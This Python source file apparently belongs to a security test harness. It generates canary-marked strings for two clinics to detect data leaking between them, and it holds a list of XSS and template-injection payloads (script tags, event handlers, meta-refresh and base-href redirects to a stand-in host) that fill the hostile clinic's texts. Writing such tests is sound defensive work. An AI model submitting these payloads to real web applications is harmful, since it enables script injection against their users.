"""Texts that can be found again: each carries a mark of its clinic and a number; hostile ones carry payloads too."""

from __future__ import annotations

import itertools
import re

MARKS = ("kanaryalpha", "kanarybravo")
"""What the texts of clinic A and clinic B carry; A's are hostile."""

PAYLOADS = (
    "<img src=kx onerror=kx()>",
    '"><svg onload=kx()>',
    "{{7777*7777}}{%set kx=7%}",
    "</textarea><script>kx()</script>",
    "' onfocus='kx()' autofocus='",
    '" onmouseover="kx()" x="',
    "</title><script src=//kx.test></script>",
    '<a href="javascript:kx()">k</a>',
    "--><iframe src=//kx.test>",
    "<style>*{color:kx}</style>",
    "${7777*7777}#{7777*7777}<%=7777*7777%>",
    "&lt;kx&gt;&#60;kx&#62;",
    "]]></svg><math><kx>",
    "</option></select><form action=//kx.test>",
    "<meta http-equiv=refresh content=0;url=//kx.test>",
    "\\u003ckx\\u003e\\x3ckx",
    "<base href=//kx.test>",
    "<details open ontoggle=kx()>",
    "<input autofocus onfocus=kx()>",
    "<object data=//kx.test><embed src=//kx.test>",
    '<link rel=stylesheet href="//kx.test">',
    "`${kx()}`",
    "<!--<kx>",
    "<template><kx></template>",
)


class Texts:
    """The texts of one clinic: `mark` followed by a number, and payloads behind it when `hostile`."""

    def __init__(self, mark: str, *, hostile: bool) -> None:
        self.mark, self.hostile = mark, hostile
        self.made: dict[str, str] = {}
        self._payloads = itertools.cycle(PAYLOADS)

    def line(self, name: str, longest: int = 110) -> str:
        """One line for a field called `name`, with as many payloads as fit."""
        token = f"{self.mark}{len(self.made):03d}"
        parts = [token]
        while self.hostile and len(" ".join(parts)) < longest - 20 and len(parts) < 4:
            fitting = next(self._payloads)
            if len(" ".join([*parts, fitting])) <= longest:
                parts.append(fitting)
        self.made[token] = name
        return " ".join(parts)

    def paragraph(self, name: str, longest: int = 5000) -> str:
        """Several lines for a field called `name`, with every payload that fits."""
        text = self.line(name)
        for payload in PAYLOADS if self.hostile else ():
            if len(text) + len(payload) < longest:
                text += "\n" + payload
        return text


def marks_in(text: str, mark: str) -> set[str]:
    """The numbered marks of one clinic in a text, whatever its case; the bare mark when its number is cut off."""
    flat = text.lower()
    return {found.group(0) for found in re.finditer(rf"{mark}(\d{{3}})?", flat)} if mark in flat else set()


def joined(text: str) -> str:
    """The text of a PDF with lines put together again: a mark may have been broken between two of them."""
    return re.sub(r"[\s\u00ad\u200b-]+", "", text)
